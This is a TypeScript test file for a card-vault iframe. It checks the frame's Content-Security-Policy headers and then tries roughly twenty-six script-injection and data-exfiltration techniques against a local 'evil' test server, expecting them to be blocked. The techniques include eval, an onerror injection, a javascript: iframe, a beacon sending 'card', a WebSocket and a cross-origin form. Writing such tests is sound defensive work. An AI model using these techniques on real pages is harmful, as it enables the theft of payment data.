/** B13 and B14: what the frame's document lets happen inside it. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Frame } from '../../testing/browser.ts';
import { mountReady } from '../../testing/host-page.ts';
import { type Origin, serve } from '../../testing/serve.ts';
import { setScene, useStage } from '../../testing/stage.ts';

const stage = useStage();
let evil: Origin | undefined;

before(async () => {
  evil = await serve(() => ({
    type: 'text/javascript',
    headers: { 'access-control-allow-origin': '*' },
    body: 'window.ran.push("fetched")',
  }));
});
after(async () => evil?.close());

declare global {
  interface Window {
    ran: string[];
    violations: string[];
  }
}

/** Twenty ways to run code or carry data out. Runs in the frame; each way that works leaves its name in `ran`. */
async function tryEverything(evilUrl: string): Promise<{ ran: string[]; violations: string[] }> {
  window.ran = [];
  window.violations = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    window.violations.push(effectiveDirective),
  );
  const mark = (name: string) => `window.ran.push(${JSON.stringify(name)})`;
  const add = (tag: string, attributes: Record<string, string>, text = '') => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    if (text !== '') element.append(text);
    document.body.append(element);
    return element;
  };
  const reached = (name: string) => () => {
    window.ran.push(name);
  };
  const ways: Record<string, () => unknown> = {
    'inline script': () => add('script', {}, mark('inline script')),
    'script of another origin': () => add('script', { src: `${evilUrl}/script` }),
    'data: script': () => add('script', { src: `data:text/javascript,${mark('data: script')}` }),
    'blob script': () => add('script', { src: URL.createObjectURL(new Blob([mark('blob script')])) }),
    'module script': () => add('script', { type: 'module', src: `${evilUrl}/module` }),
    // biome-ignore lint/security/noGlobalEval: this is the attack
    eval: () => window.eval(mark('eval')),
    'new Function': () => new Function(mark('new Function'))(),
    'timer text': () => Reflect.apply(window.setTimeout, window, [mark('timer text'), 0]),
    'event attribute': () => add('img', { src: 'x:', onerror: mark('event attribute') }),
    innerHTML: () => {
      document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror='${mark('innerHTML')}'>`);
    },
    'javascript: frame': () =>
      add('iframe', { src: `javascript:parent.${mark('javascript: frame').replace('window.', '')}` }),
    'frame of another origin': () => add('iframe', { src: `${evilUrl}/frame` }),
    image: () => add('img', { src: `${evilUrl}/image` }),
    fetch: () => fetch(`${evilUrl}/fetch`).then(reached('fetch')),
    'fetch without cors': () => fetch(`${evilUrl}/no-cors`, { mode: 'no-cors' }).then(reached('fetch without cors')),
    beacon: () => navigator.sendBeacon(`${evilUrl}/beacon`, 'card'),
    socket: () => new WebSocket(evilUrl.replace('http', 'ws')),
    'event source': () => new EventSource(`${evilUrl}/events`),
    'style element': () => {
      add('style', {}, 'body{--stolen:1}');
      if (getComputedStyle(document.body).getPropertyValue('--stolen') === '1') window.ran.push('style element');
    },
    'style attribute': () => {
      const element = add('p', { style: '--stolen:2' });
      if (element.style.getPropertyValue('--stolen') === '2') window.ran.push('style attribute');
    },
    'style sheet of another origin': () => add('link', { rel: 'stylesheet', href: `${evilUrl}/style` }),
    worker: () =>
      new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).addEventListener('message', reached('worker')),
    'another base': () => {
      add('base', { href: `${evilUrl}/` });
      if (document.baseURI.startsWith(evilUrl)) window.ran.push('another base');
    },
    'form of another origin': () => {
      const form = document.createElement('form');
      form.action = `${evilUrl}/form`;
      form.target = add('iframe', { name: 'sink' }).getAttribute('name') ?? '';
      document.body.append(form);
      form.submit();
    },
    prefetch: () => add('link', { rel: 'prefetch', href: `${evilUrl}/prefetch` }),
    object: () => add('object', { data: `${evilUrl}/object` }),
  };
  // From a timer: what the test's driver evaluates directly is exempt from parts of the policy.
  await new Promise<void>((resolve) => {
    setTimeout(() => {
      for (const way of Object.values(ways)) {
        try {
          void Promise.resolve(way()).catch(() => undefined);
        } catch {
          // Blocked by a throw.
        }
      }
      resolve();
    }, 0);
  });
  // Long enough for a busy machine to start a worker, had it been allowed.
  await new Promise((resolve) => setTimeout(resolve, 2_000));
  return { ran: window.ran, violations: window.violations };
}

async function attack(frame: Frame): Promise<{ ran: string[]; violations: string[]; reached: string[] }> {
  const asked = evil?.asked ?? [];
  const before = asked.length;
  const outcome = await frame.evaluate(tryEverything, evil?.origin ?? '');
  return { ...outcome, reached: asked.slice(before).map(({ url }) => url) };
}

describe('B13 headers of everything the frame is made of', () => {
  it('deny by default, on errors too', async () => {
    const { vault, host } = stage.scene();
    const paths = [
      '/fields/v1/card',
      '/fields/v1/frame.js',
      '/fields/v1/frame.css',
      '/fields/v1/other.js',
      '/nothing',
      '/',
    ];
    const answers = await Promise.all([
      ...paths.map((path) => fetch(`${vault.origin}${path}`)),
      fetch(`${vault.origin}/rest/v2/mobilejwt/manual`, { method: 'POST', body: '{' }),
      fetch(vault.address),
    ]);
    for (const { url, headers } of answers) {
      assert.match(headers.get('content-security-policy') ?? '', /^default-src 'none'/, url);
      assert.match(headers.get('content-security-policy') ?? '', /frame-ancestors /, url);
      assert.equal(headers.get('x-content-type-options'), 'nosniff', url);
      assert.equal(headers.get('referrer-policy'), 'no-referrer', url);
      for (const name of ['cross-origin-opener-policy', 'cross-origin-resource-policy', 'strict-transport-security']) {
        assert.ok(headers.has(name), `${name} of ${url}`);
      }
    }
    const policy = answers.at(-1)?.headers.get('content-security-policy') ?? '';
    assert.doesNotMatch(policy, /unsafe-/);
    assert.ok(policy.includes(`frame-ancestors ${host.origin};`), policy);
    assert.match(policy, /require-trusted-types-for 'script'/);
  });
});

describe('B14 inside the frame', () => {
  it('no code runs, nothing gets out, and the browser reports it', async () => {
    const page = await stage.open();
    const frame = await mountReady(page, stage.scene().vault.entry);
    const { ran, violations, reached } = await attack(frame);
    assert.deepEqual(ran, []);
    assert.deepEqual(reached, []);
    for (const directive of ['script-src-elem', 'connect-src', 'img-src', 'form-action', 'require-trusted-types-for']) {
      assert.ok(violations.includes(directive), `${directive} in ${violations.join(' ')}`);
    }
    assert.ok(violations.length >= 15, violations.join(' '));
  });

  it('control: without the policy most of it works', async () => {
    const weak = await setScene({ vault: { withoutPolicy: true } });
    try {
      const page = await stage.open(weak.host.origin);
      const frame = await mountReady(page, weak.vault.entry);
      const { reached } = await attack(frame);
      await frame.waitForFunction(() => window.ran.includes('worker'), undefined, { timeout: 10_000 });
      const ran = await frame.evaluate(() => window.ran);
      for (const way of [
        'inline script',
        'eval',
        'new Function',
        'event attribute',
        'style element',
        'fetch',
        'worker',
      ]) {
        assert.ok(ran.includes(way), `${way} in ${ran.join(', ')}`);
      }
      assert.ok(reached.length >= 6, reached.join(' '));
    } finally {
      await weak.close();
    }
  });
});
